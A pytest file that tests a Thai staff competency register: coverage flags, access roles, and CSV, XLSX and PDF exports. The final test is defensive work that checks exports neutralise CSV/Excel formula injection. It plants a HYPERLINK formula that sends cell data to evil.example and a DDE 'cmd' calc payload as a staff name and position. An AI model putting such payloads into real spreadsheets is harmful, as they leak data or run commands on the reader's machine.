"""The register: cells, coverage flags each produced on purpose, roles, exports."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.conftest import token


def _register(client, world, who="hr.a"):
    response = client.get(f"/api/v1/laos/{world.a.id}/register", headers=token(client, who))
    assert response.status_code == 200
    return response.get_json()


def _assign(client, world, person, role="primary", subsystem="e-laas", **extra):
    body = {"user_id": person.id, "subsystem": subsystem, "role": role, "share_percent": 30,
            "effective_from": "2026-11-01", "order_ref": "คำสั่งที่ 5/2569", **extra}
    response = client.post(f"/api/v1/laos/{world.a.id}/assignments", json=body,
                           headers=token(client, "hr.a"))
    assert response.status_code == 201, response.get_json()


def test_cells_show_level_source_expiry_and_assignment(client, factory, world):
    factory.evidence(world.officer_a, "e-laas", 2)
    _assign(client, world, world.officer_a)
    body = _register(client, world)
    row = next(s for s in body["staff"] if s["user_id"] == world.officer_a.id)
    cell = row["cells"]["e-laas"]
    assert (cell["level"], cell["source"], cell["assignment"]) == (2, "placement", "primary")
    assert cell["expires_at"]
    assert row["cells"]["e-gp"] == {"level": 0, "source": None, "expires_at": None,
                                    "assignment": None}
    assert len(body["staff"]) == 3


def test_no_competent_flag(client, world):
    assert "no_competent" in _register(client, world)["coverage"]["info"]["flags"]


def test_single_competent_flag(client, factory, world):
    factory.evidence(world.officer_a, "info", 3)
    flags = _register(client, world)["coverage"]["info"]["flags"]
    assert "single_competent" in flags
    assert "no_competent" not in flags


def test_two_competent_clears_the_count_flags(client, factory, world):
    factory.evidence(world.officer_a, "info", 2)
    factory.evidence(world.hr_a, "info", 2)
    assert _register(client, world)["coverage"]["info"]["flags"] == []


def test_assignee_not_competent_flag_when_evidence_lapses(app, client, factory, world):
    _assign(client, world, world.officer_a, override_reason="ขาดคน")
    client.post(f"/api/v1/assignments/{_first(client, world)}/approve",
                headers=token(client, "executive.a"))
    cov = _register(client, world)["coverage"]["e-laas"]
    assert "assignee_not_competent" in cov["flags"]
    assert cov["primary"] == 1


def _first(client, world):
    return client.get(f"/api/v1/laos/{world.a.id}/assignments",
                      headers=token(client, "hr.a")).get_json()[0]["id"]


def test_expiring_soon_flag_within_60_days(client, factory, world):
    factory.evidence(world.officer_a, "e-gp", 2, valid_days=365, age_days=320)
    factory.evidence(world.hr_a, "e-gp", 2, valid_days=365, age_days=200)
    flags = _register(client, world)["coverage"]["e-gp"]["flags"]
    assert flags == ["expiring_soon"]


def test_not_expiring_after_61_days(client, factory, world):
    factory.evidence(world.officer_a, "e-gp", 2, valid_days=365, age_days=300)
    factory.evidence(world.hr_a, "e-gp", 2)
    assert _register(client, world)["coverage"]["e-gp"]["flags"] == []


def test_register_readers(client, world):
    url = f"/api/v1/laos/{world.a.id}/register"
    assert client.get(url, headers=token(client, "executive.a")).status_code == 200
    assert client.get(url, headers=token(client, world.sup_district_a.username)
                      ).status_code == 200
    assert client.get(url, headers=token(client, "officer.a")).status_code == 403
    assert client.get(url, headers=token(client, "hr.b")).status_code == 404


def test_register_page_explains_flags_and_who_could_fix_them(client, factory, world):
    from tests.conftest import login

    factory.evidence(world.hr_a, "e-plan", 1)
    login(client, "hr.a")
    page = client.get(f"/laos/{world.a.id}/register").get_data(as_text=True)
    assert "ยังไม่มีผู้ที่ใช้ระบบได้" in page or "Nobody is competent" in page
    fix = page.split('id="flag-e-plan-no_competent"', 1)[1].split("</li>", 1)[0]
    assert "นายทดสอบ" in fix  # the level-1 person is named as the one to train


@pytest.fixture
def exported(client, factory, world):
    factory.evidence(world.officer_a, "e-laas", 2)
    _assign(client, world, world.officer_a)
    from tests.conftest import login

    login(client, "hr.a")

    def get(fmt):
        response = client.get(f"/laos/{world.a.id}/register.{fmt}")
        assert response.status_code == 200
        return response.data
    return get


def test_csv_export_has_every_person_and_the_marker(exported, world):
    rows = list(csv.reader(io.StringIO(exported("csv").decode("utf-8-sig"))))
    assert rows[0][:3] == ["ชื่อ-สกุล", "ตำแหน่ง", "สังกัด"]
    assert len(rows) == 4
    assert [r.index("2 P") for r in rows[1:] if "2 P" in r] == [4]  # the e-LAAS column


def test_xlsx_export_has_a_frozen_formatted_header(exported):
    book = load_workbook(io.BytesIO(exported("xlsx")))
    sheet = book.active
    assert sheet.freeze_panes == "B2"
    assert sheet["A1"].font.bold
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert any("2 P" in (v or "") for row in values for v in row)


def test_pdf_export_is_thai_with_a_buddhist_era_date(exported, world):
    reader = PdfReader(io.BytesIO(exported("pdf")))
    text = "".join(page.extract_text() for page in reader.pages)
    assert "ทะเบียนสมรรถนะ" in text
    assert "2569" in text
    assert "หน้า 1" in text


def test_register_page_gives_expiry_dates_in_the_buddhist_era(client, factory, world):
    from app.dates import local_date, thai_date
    from app.db import utcnow
    from tests.conftest import login

    factory.evidence(world.officer_a, "e-laas", 2, valid_days=100)
    login(client, "hr.a")
    page = client.get(f"/laos/{world.a.id}/register").get_data(as_text=True)
    from datetime import timedelta

    assert thai_date(local_date(utcnow() + timedelta(days=100)), short=True) in page


def test_exports_keep_a_formula_in_a_name_as_text(client, factory):
    """A name imported as =HYPERLINK(...) opens as text in Excel, never as a live formula."""
    import csv
    import io

    from openpyxl import load_workbook

    from tests.conftest import login

    lao = factory.lao()
    hr = factory.user(lao, "hr")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    factory.user(lao, "officer", full_name=evil, position="+cmd|' /C calc'!A0")
    login(client, hr.username)
    text = client.get(f"/laos/{lao.id}/register.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row[:3]]
    assert "'" + evil in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    sheet = load_workbook(io.BytesIO(client.get(f"/laos/{lao.id}/register.xlsx").data)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert evil in [c.value for c in names]
    assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
